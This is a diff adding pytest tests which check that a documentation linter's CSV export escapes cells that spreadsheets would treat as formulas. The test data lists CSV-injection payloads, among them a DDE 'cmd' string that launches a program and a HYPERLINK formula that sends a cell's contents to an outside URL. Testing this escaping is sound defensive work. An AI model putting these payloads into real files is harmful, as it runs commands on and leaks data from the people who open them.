@@ -307,3 +307,42 @@ def test_compare_page_when_nothing_was_graded_names_documents_from_the_root(run,
     assert "No document was long enough to grade, then or now." in since
     assert "<table" not in since
     assert "<li><code>b.md</code>: grade - → -, problems" in since  # from pages/, the root
+
+
+FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
+            '=HYPERLINK("http://example.org/?"&A1,"Click")', "=cmd|' /C calc'!A0", "＝1+1"]
+
+
+@pytest.mark.parametrize("name", ["=1+1.md", "+1+1.md", "-1+1.md", "@SUM(1+1).md",
+                                  " =1+1.md", "=cmd|' -C calc'!A0.md"])
+def test_todo_csv_page_names_never_become_formulas(run, write, name):
+    import csv
+    write(name, TODO_PAGE)
+    write("z.md", TODO_PAGE)
+    assert run("report", ".", "--todo", "todo.csv").exit_code == 0
+    raw = Path("todo.csv").read_text(encoding="utf-8")
+    with open("todo.csv", encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert [row[0] for row in rows[1:]] == ["pancreaticoduodenectomy", "thrombocytopenia"]
+    for row in rows[1:]:
+        assert row[5] == f"'{name} ; z.md"  # the same text, marked as text
+    # every cell is quoted, so a spreadsheet splitting at ";" or spaces keeps it whole
+    assert all(line.startswith('"') and line.endswith('"') for line in raw.splitlines())
+
+
+def test_todo_csv_terms_that_would_be_formulas_are_text(tmp_path):
+    import csv
+
+    from readlint.report.model import Report, TodoTerm
+    from readlint.report.todo import write_csv
+
+    report = Report([], [], [], [], todo=[TodoTerm(term, "unlinked", 1, [term + ".md"])
+                                          for term in FORMULAS + ["plain", "a=b", "e-mail"]])
+    with (tmp_path / "todo.csv").open("w", encoding="utf-8", newline="") as fh:
+        write_csv(report, fh)
+    with (tmp_path / "todo.csv").open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))[1:]
+    assert [row[0] for row in rows] == ["'" + term for term in FORMULAS] + \
+        ["plain", "a=b", "e-mail"]  # the same text; only those that could run are marked
+    assert [row[5] for row in rows[:len(FORMULAS)]] == ["'" + term + ".md" for term in FORMULAS]
+    assert {row[2] for row in rows} == {"1"}
